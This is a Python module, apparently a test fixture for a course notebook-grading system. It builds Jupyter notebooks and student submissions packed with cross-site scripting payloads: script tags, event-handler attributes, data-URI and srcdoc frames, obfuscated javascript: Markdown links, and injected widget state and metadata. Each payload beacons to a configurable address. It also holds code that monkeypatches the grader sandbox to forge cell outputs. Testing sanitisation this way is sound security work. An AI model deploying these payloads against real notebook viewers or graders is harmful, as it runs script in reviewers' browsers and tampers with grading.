"""What a student may put into a notebook to act in the browser of whoever looks at it: one request a payload.

`run(name)` is a script that asks the address `BEACON/name`; a payload that only fetches asks it itself.
"""

from __future__ import annotations

import base64
import json

from nbformat import NotebookNode
from nbformat.v4 import new_code_cell, new_markdown_cell, new_notebook, new_output, new_raw_cell

TINY_PNG = (
    "iVBORw0KGgoAAAANSUhEUgAAAAIAAAACCAIAAAD91JpzAAAAEElEQVR4nGP8zwACTGCSAQANHQEDgslx/wAAAABJRU5ErkJggg=="
)


class Payloads:
    """Every payload, aimed at one address."""

    def __init__(self, beacon: str) -> None:
        self.beacon = beacon

    def run(self, name: str) -> str:
        return f"void(new Image().src='{self.beacon}/{name}')"

    def pages(self, place: str) -> dict[str, str]:
        """Payloads in HTML, wherever HTML may stand."""
        run = {
            kind: self.run(f"{place}-{kind}")
            for kind in ("script", "onerror", "svg", "iframe", "object", "toggle", "focus", "video", "style")
        }
        inner = base64.b64encode(f"<script>{run['object']}</script>".encode()).decode()
        return {
            "script": f"<script>{run['script']}</script>",
            "onerror": f'<img src="/nowhere-{place}" onerror="{run["onerror"]}">',
            "svg": f'<svg xmlns="http://www.w3.org/2000/svg" onload="{run["svg"]}"></svg>',
            "iframe": f'<iframe srcdoc="&lt;script&gt;{run["iframe"]}&lt;/script&gt;"></iframe>',
            "object": f'<object data="data:text/html;base64,{inner}"></object>',
            "toggle": f'<details open ontoggle="{run["toggle"]}"><summary>s</summary></details>',
            "video": f'<video><source onerror="{run["video"]}"></video>',
            "fetched": f'<img src="{self.beacon}/{place}-fetched">',
            "stylesheet": f'<link rel="stylesheet" href="{self.beacon}/{place}-stylesheet">',
            "import": f'<style>@import url("{self.beacon}/{place}-import");</style>',
            "refresh": f'<meta http-equiv="refresh" content="0;url={self.beacon}/{place}-refresh">',
            "link": f'<a href="javascript:{run["focus"]}">l</a>',
        }

    def texts(self) -> dict[str, str]:
        """Payloads in Markdown."""
        link = self.run("markdown-click").replace(" ", "%20")
        return {
            **self.pages("text"),
            "click": f"[the answer]({'javascript:' + link})",
            "reference": f"[the answer][r]\n\n[r]: javascript:{link}-reference",
            "entity": f"[the answer](java&#115;cript:{link})",
            "picture": f"![a picture]({self.beacon}/markdown-picture)",
            "attachment": "![a picture](attachment:none.png)",
            "mermaid": f'```mermaid\n<img src="/nowhere" onerror="{self.run("markdown-mermaid")}">\n```',
            "latex": r"$\href{javascript:alert(1)}{x}$ and $\unicode[' onload=alert(1)']{x41}$",
            "opened": "see https://127.0.0.1/formgrader/?path=/course/submitted",
        }

    def outputs(self) -> dict[str, dict]:
        """Payloads in what a cell shows."""
        svg = f'<svg xmlns="http://www.w3.org/2000/svg"><script>{self.run("output-svg")}</script></svg>'
        data = {name: {"text/html": page} for name, page in self.pages("output").items()}
        data |= {
            "javascript": {"application/javascript": self.run("output-javascript")},
            "image-svg": {"image/svg+xml": svg},
            "markdown": {"text/markdown": f'<img src="/nowhere" onerror="{self.run("output-markdown")}">'},
            "latex": {"text/latex": f"$x$<script>{self.run('output-latex')}</script>"},
            "quoted": {"image/png": f'" onerror="{self.run("output-quoted")}'},
            "widget": {"application/vnd.jupyter.widget-view+json": {"model_id": "a", "version_major": 2}},
        }
        shown = {
            name: {"output_type": "display_data", "data": kind, "metadata": {}} for name, kind in data.items()
        }
        script = f"\x1b]8;;javascript:1\x07<script>{self.run('output-stream')}</script>\x1b[31mred"
        shown["stream"] = {"output_type": "stream", "name": "stdout", "text": script}
        shown["error"] = {"output_type": "error", "ename": script, "evalue": script, "traceback": [script]}
        return shown

    def raw(self) -> NotebookNode:
        """A notebook that holds everything, as it would stand in a file where nobody had looked at it."""
        shown = [new_output(**output) for output in self.outputs().values()]
        texts = [new_markdown_cell(text) for name, text in self.texts().items() if name != "attachment"]
        raws = [new_raw_cell(page) for page in self.pages("raw").values()]
        state = {
            "state": {"a": {"model_name": "HTMLModel", "state": {"value": self.pages("widget")["onerror"]}}}
        }
        widgets = {"application/vnd.jupyter.widget-state+json": {**state, "version_major": 2}}
        cells = [*texts, *raws, new_code_cell("1", outputs=shown)]
        return new_notebook(cells=cells, metadata={"widgets": widgets})

    def into(self, notebook: NotebookNode, answer: str) -> NotebookNode:
        """The payloads in a student's notebook: in the answer, added cells, metadata and attachments."""
        tag = f'"><img src="/nowhere" onerror="{self.run("metadata")}">'
        forged = list(self.outputs().values())
        source = FORGE.replace("OUTPUTS", repr(json.dumps(forged)))
        added = [
            *(new_markdown_cell(text) for text in self.texts().values()),
            *(new_raw_cell(page) for page in self.pages("raw").values()),
            new_code_cell(source),
        ]
        for cell in added:
            cell.metadata |= {"tags": [tag], "raw_mimetype": "text/html", "name": tag}
        added[0].attachments = {"a.png": {"image/svg+xml": tag}}
        shows = [f"display(HTML({page!r}))" for page in self.pages("answer").values()]
        for cell in notebook.cells:
            if cell.id == "double":
                cell.source = "\n".join([answer, HONEST, *shows])
        notebook.cells[-1:-1] = added
        notebook.metadata |= {"title": tag, "authors": [{"name": tag}], "language_info": {"name": tag}}
        return notebook


FORGE = """import json
import course.sandbox.outputs as border
_taken = border.Outputs.taken

def once(self):
    border.Outputs.taken = _taken
    return json.loads(OUTPUTS)

border.Outputs.taken = once"""
HONEST = f"""
import base64
from IPython.display import HTML, Image, Markdown, display
from helpers import tables
print("\\x1b[32mprinted words\\x1b[0m", "1 < 2")
display(tables.table([{{"batch": 8, "memory_ms": 41.5}}]))
display(Image(base64.b64decode({TINY_PNG!r})))"""
